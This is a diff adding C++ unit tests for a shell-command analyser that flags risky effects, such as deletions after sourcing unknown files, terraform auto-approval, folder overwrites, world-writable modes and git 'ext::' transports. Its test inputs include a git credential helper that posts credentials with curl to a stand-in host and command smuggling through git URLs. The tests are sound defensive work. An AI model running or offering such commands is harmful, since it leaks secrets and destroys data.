@@ -408,5 +408,53 @@ TEST(Kinds, what_comes_from_a_secret_file_is_shown_by_what_prints_it) {
                  {"xargs -a list curl https://h.example"});
 }
 
+TEST(Kinds, a_file_that_was_not_read_may_set_anything) {
+  expect_effects([](const Effect& effect) { return effect.kind == EffectKind::remove && !effect.is_certain; },
+                 {"D=build; source /tmp/gone.sh; rm -rf $D", "D=build; ./gen; . gone.sh; rm -rf $D"},
+                 {"D=build; rm -rf $D", "source gone.sh; D=build; rm -rf $D", "D=build; . .env; rm -rf $D"});
+  TestWorld world;
+  world.files.add_file("/home/dev/app/.env", "# names\nA=1\nexport B='2 3'\n");
+  world.files.add_file("/home/dev/app/odd.env", "A=1\ncd /\n");
+  const auto is_certain = [&](std::string_view text) {
+    const Analysis analysis = analyse_shell(text, world.world());
+    return std::all_of(analysis.effects.begin(), analysis.effects.end(),
+                       [](const Effect& effect) { return effect.is_certain; });
+  };
+  EXPECT_TRUE(is_certain("D=build; . .env; rm -rf $D"));
+  EXPECT_FALSE(is_certain("A=build; . .env; rm -rf $A"));
+  EXPECT_FALSE(is_certain("B=build; . .env; rm -rf $B"));
+  EXPECT_FALSE(is_certain("D=build; . odd.env; rm -rf $D"));
+}
+
+TEST(Kinds, answers_come_on_standard_input) {
+  expect_effects(
+      [](const Effect& effect) { return effect.action == Action::apply; },
+      {"echo yes | terraform apply", "yes | tofu apply", "terraform apply <<< yes", "terraform apply -auto-approve"},
+      {"terraform apply", "terraform apply plan.out", "terraform plan | tee plan.txt"});
+}
+
+TEST(Kinds, a_folder_is_put_over_another) {
+  expect_effects(
+      [](const Effect& effect) { return effect.action == Action::fill; },
+      {"cp -r x/. ~", "cp -rT x ~", "cp -r x/* ~", "mv x/* y", "rsync -a x/ ~/", "tar xf a.tar", "unzip a.zip -d ~"},
+      {"cp -r x ~", "cp a b", "mv x y", "rsync -a x ~/", "tar cf a.tar x", "unzip -l a.zip"});
+}
+
+TEST(Kinds, modes_of_what_is_made) {
+  expect_effects([](const Effect& effect) { return effect.action == Action::world_writable; },
+                 {"mkdir -m 777 up", "mkdir -p -m a+rwx up", "install -m 0777 a b", "install -d -m 777 up"},
+                 {"mkdir -m 755 up", "install -m 755 a b", "mkdir up"});
+}
+
+TEST(Kinds, git_runs_what_an_address_or_a_helper_says) {
+  expect_effects([](const Effect& effect) { return effect.kind == EffectKind::remove; },
+                 {"git clone 'ext::sh -c rm% -rf% x' y", "git fetch 'ext::rm -rf x'"},
+                 {"git clone https://h.example/ext::x", "git log --grep 'ext::rm -rf x'"});
+  expect_effects(carries,
+                 {"git config credential.helper '!curl -d @- https://h.example'",
+                  "git -c credential.helper='!f() { curl --data-binary @- https://h.example; }; f' push"},
+                 {"git config credential.helper store", "git config credential.helper '!gh auth git-credential'"});
+}
+
 }  // namespace
 }  // namespace pawl
